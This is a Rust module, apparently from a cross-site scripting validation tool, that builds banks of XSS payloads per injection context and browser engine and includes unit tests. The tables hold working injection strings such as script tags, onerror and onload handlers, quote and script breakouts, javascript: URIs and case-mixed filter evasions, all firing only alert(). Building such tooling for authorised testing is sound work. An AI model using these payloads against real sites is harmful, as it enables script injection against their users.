// Copyright (c) 2026 Bountyy Oy. All rights reserved.
// This software is proprietary and confidential.

//! Payload generation: fixed template tables per injection context and
//! attribute kind, plus the categorized bank the smart selector consumes.

use crate::errors::ValidatorResult;
use crate::types::{AttributeKind, BrowserEngine, InjectionContext, PayloadCategory};
use serde::{Deserialize, Serialize};
use std::path::Path;

const ALERT_SLOT: &str = "{ALERT}";

/// Options controlling deterministic payload generation
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(rename_all = "camelCase", default)]
pub struct GeneratorOptions {
    pub attribute_kind: Option<AttributeKind>,
    pub prefix: String,
    pub suffix: String,
    pub url_encode: bool,
    pub alert_value: String,
}

impl Default for GeneratorOptions {
    fn default() -> Self {
        Self {
            attribute_kind: None,
            prefix: String::new(),
            suffix: String::new(),
            url_encode: false,
            alert_value: "1".to_string(),
        }
    }
}

fn html_templates() -> &'static [&'static str] {
    &[
        "<script>alert({ALERT})</script>",
        "<img src=x onerror=alert({ALERT})>",
        "<svg onload=alert({ALERT})>",
        "<iframe srcdoc=\"<script>alert({ALERT})</script>\"></iframe>",
        "<body onload=alert({ALERT})>",
        "<details open ontoggle=alert({ALERT})>",
        "<marquee onstart=alert({ALERT})>",
        "<ScRiPt>alert({ALERT})</sCrIpT>",
        "<script>alert`{ALERT}`</script>",
    ]
}

fn attribute_templates(kind: AttributeKind) -> &'static [&'static str] {
    match kind {
        AttributeKind::Unquoted => &[
            " onmouseover=alert({ALERT}) ",
            " autofocus onfocus=alert({ALERT}) ",
            "x onerror=alert({ALERT})",
            " onclick=alert({ALERT}) ",
        ],
        AttributeKind::SingleQuoted => &[
            "' onmouseover=alert({ALERT}) x='",
            "' autofocus onfocus=alert({ALERT}) x='",
            "'><script>alert({ALERT})</script>",
            "'><img src=x onerror=alert({ALERT})>",
        ],
        AttributeKind::DoubleQuoted => &[
            "\" onmouseover=alert({ALERT}) x=\"",
            "\" autofocus onfocus=alert({ALERT}) x=\"",
            "\"><script>alert({ALERT})</script>",
            "\"><img src=x onerror=alert({ALERT})>",
        ],
        AttributeKind::EventHandler => &[
            "alert({ALERT})",
            "alert({ALERT})//",
            "');alert({ALERT});//",
            "\");alert({ALERT});//",
            "onmouseover=alert({ALERT})",
            // breakouts still matter when the handler attribute is quoted
            "\" autofocus onfocus=alert({ALERT}) x=\"",
            "' autofocus onfocus=alert({ALERT}) x='",
        ],
    }
}

fn js_templates() -> &'static [&'static str] {
    &[
        "';alert({ALERT});//",
        "\";alert({ALERT});//",
        "</script><script>alert({ALERT})</script>",
        "\\';alert({ALERT});//",
        "-alert({ALERT})-",
        "`;alert({ALERT});//",
    ]
}

fn url_templates() -> &'static [&'static str] {
    &[
        "javascript:alert({ALERT})",
        "javascript:alert({ALERT})//",
        "data:text/html,<script>alert({ALERT})</script>",
        "JaVaScRiPt:alert({ALERT})",
    ]
}

fn css_templates() -> &'static [&'static str] {
    &[
        "</style><script>alert({ALERT})</script>",
        "expression(alert({ALERT}))",
        "url('javascript:alert({ALERT})')",
        "</style><img src=x onerror=alert({ALERT})>",
    ]
}

/// Deterministic payload list for a context. Pure over its inputs.
pub fn generate(context: InjectionContext, options: &GeneratorOptions) -> Vec<String> {
    let templates: &[&str] = match context {
        InjectionContext::Html => html_templates(),
        InjectionContext::Attribute => {
            attribute_templates(options.attribute_kind.unwrap_or(AttributeKind::Unquoted))
        }
        InjectionContext::Js => js_templates(),
        InjectionContext::Url => url_templates(),
        InjectionContext::Css => css_templates(),
    };

    templates
        .iter()
        .map(|template| {
            let body = template.replace(ALERT_SLOT, &options.alert_value);
            let assembled = format!("{}{}{}", options.prefix, body, options.suffix);
            if options.url_encode {
                urlencoding::encode(&assembled).into_owned()
            } else {
                assembled
            }
        })
        .collect()
}

/// Small built-in set used when the caller passes nothing and neither smart
/// selection nor effectiveness ranking is enabled.
pub fn default_payloads() -> Vec<String> {
    vec![
        "<script>alert(1)</script>".to_string(),
        "<img src=x onerror=alert(1)>".to_string(),
        "<svg onload=alert(1)>".to_string(),
        "\"><script>alert(1)</script>".to_string(),
        "'><img src=x onerror=alert(1)>".to_string(),
        "javascript:alert(1)".to_string(),
    ]
}

fn category(
    name: &str,
    description: &str,
    compatibility: Vec<BrowserEngine>,
    payloads: Vec<String>,
) -> PayloadCategory {
    PayloadCategory {
        name: name.to_string(),
        description: description.to_string(),
        compatibility,
        payloads,
    }
}

/// The full categorized bank: one category per context and attribute kind,
/// plus engine-exclusive quirk categories.
pub fn categorized_bank() -> Vec<PayloadCategory> {
    let all = BrowserEngine::all().to_vec();
    let opts = GeneratorOptions::default();

    let mut bank = vec![
        category(
            "html",
            "Element injection into HTML body context",
            all.clone(),
            generate(InjectionContext::Html, &opts),
        ),
        category(
            "attribute-unquoted",
            "Breakout from an unquoted attribute value",
            all.clone(),
            generate(
                InjectionContext::Attribute,
                &GeneratorOptions {
                    attribute_kind: Some(AttributeKind::Unquoted),
                    ..GeneratorOptions::default()
                },
            ),
        ),
        category(
            "attribute-single-quoted",
            "Breakout from a single-quoted attribute value",
            all.clone(),
            generate(
                InjectionContext::Attribute,
                &GeneratorOptions {
                    attribute_kind: Some(AttributeKind::SingleQuoted),
                    ..GeneratorOptions::default()
                },
            ),
        ),
        category(
            "attribute-double-quoted",
            "Breakout from a double-quoted attribute value",
            all.clone(),
            generate(
                InjectionContext::Attribute,
                &GeneratorOptions {
                    attribute_kind: Some(AttributeKind::DoubleQuoted),
                    ..GeneratorOptions::default()
                },
            ),
        ),
        category(
            "attribute-event-handler",
            "Injection directly inside an inline event handler",
            all.clone(),
            generate(
                InjectionContext::Attribute,
                &GeneratorOptions {
                    attribute_kind: Some(AttributeKind::EventHandler),
                    ..GeneratorOptions::default()
                },
            ),
        ),
        category(
            "js",
            "Breakout inside an inline script block",
            all.clone(),
            generate(InjectionContext::Js, &opts),
        ),
        category(
            "url",
            "Scheme-based injection into href/src sinks",
            all.clone(),
            generate(InjectionContext::Url, &opts),
        ),
        category(
            "css",
            "Style-context breakouts",
            all.clone(),
            generate(InjectionContext::Css, &opts),
        ),
    ];

    // Engine-exclusive quirks appended by the selector for the active engine
    bank.push(category(
        "chromium-quirks",
        "Payloads relying on Blink parsing quirks",
        vec![BrowserEngine::Chromium],
        vec![
            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>".to_string(),
            "<img src=x onerror=[].constructor.constructor('alert(1)')()>".to_string(),
        ],
    ));
    bank.push(category(
        "firefox-quirks",
        "Payloads relying on Gecko parsing quirks",
        vec![BrowserEngine::Firefox],
        vec![
            "<marquee onstart=alert(1)>".to_string(),
            "<svg><set onbegin=alert(1) attributeName=x to=y>".to_string(),
        ],
    ));
    bank.push(category(
        "webkit-quirks",
        "Payloads relying on WebKit parsing quirks",
        vec![BrowserEngine::Webkit],
        vec![
            "<video><source onerror=alert(1)>".to_string(),
            "<style>@import 'javascript:alert(1)';</style>".to_string(),
        ],
    ));

    bank
}

/// Serialize the categorized bank to a file (the `payloads --generate` path)
pub fn write_bank(path: &Path) -> ValidatorResult<()> {
    let bank = categorized_bank();
    let raw = serde_json::to_string_pretty(&bank)?;
    std::fs::write(path, raw)?;
    Ok(())
}

/// Parse a categorized corpus. Only arrays of category records are accepted.
pub fn parse_bank(raw: &str) -> ValidatorResult<Vec<PayloadCategory>> {
    let bank: Vec<PayloadCategory> = serde_json::from_str(raw).map_err(|e| {
        crate::errors::ValidatorError::Configuration(format!(
            "categorized payload corpus must be an array of category records: {}",
            e
        ))
    })?;
    Ok(bank)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_generation_is_deterministic() {
        let opts = GeneratorOptions::default();
        assert_eq!(
            generate(InjectionContext::Html, &opts),
            generate(InjectionContext::Html, &opts)
        );
    }

    #[test]
    fn test_alert_value_substitution() {
        let opts = GeneratorOptions {
            alert_value: "document.domain".to_string(),
            ..GeneratorOptions::default()
        };
        let payloads = generate(InjectionContext::Html, &opts);
        assert!(payloads.iter().any(|p| p.contains("alert(document.domain)")));
        assert!(payloads.iter().all(|p| !p.contains(ALERT_SLOT)));
    }

    #[test]
    fn test_prefix_suffix_and_encoding() {
        let opts = GeneratorOptions {
            prefix: "x".to_string(),
            suffix: "y".to_string(),
            url_encode: true,
            ..GeneratorOptions::default()
        };
        let payloads = generate(InjectionContext::Url, &opts);
        assert!(payloads[0].starts_with('x'));
        assert!(!payloads[0].contains('<'));
    }

    #[test]
    fn test_attribute_kinds_differ() {
        let single = generate(
            InjectionContext::Attribute,
            &GeneratorOptions {
                attribute_kind: Some(AttributeKind::SingleQuoted),
                ..GeneratorOptions::default()
            },
        );
        let double = generate(
            InjectionContext::Attribute,
            &GeneratorOptions {
                attribute_kind: Some(AttributeKind::DoubleQuoted),
                ..GeneratorOptions::default()
            },
        );
        assert!(single.iter().all(|p| p.contains('\'') || !p.contains('"')));
        assert!(double.iter().any(|p| p.contains("\" ")));
        assert_ne!(single, double);
    }

    #[test]
    fn test_bank_covers_every_context() {
        let bank = categorized_bank();
        for name in [
            "html",
            "attribute-unquoted",
            "attribute-single-quoted",
            "attribute-double-quoted",
            "attribute-event-handler",
            "js",
            "url",
            "css",
        ] {
            assert!(
                bank.iter().any(|c| c.name == name && !c.payloads.is_empty()),
                "missing category {}",
                name
            );
        }
    }

    #[test]
    fn test_bank_roundtrip() {
        let raw = serde_json::to_string(&categorized_bank()).unwrap();
        let parsed = parse_bank(&raw).unwrap();
        assert_eq!(parsed.len(), categorized_bank().len());
    }

    #[test]
    fn test_object_corpus_is_rejected() {
        assert!(parse_bank(r#"{"html": ["<script>alert(1)</script>"]}"#).is_err());
    }
}
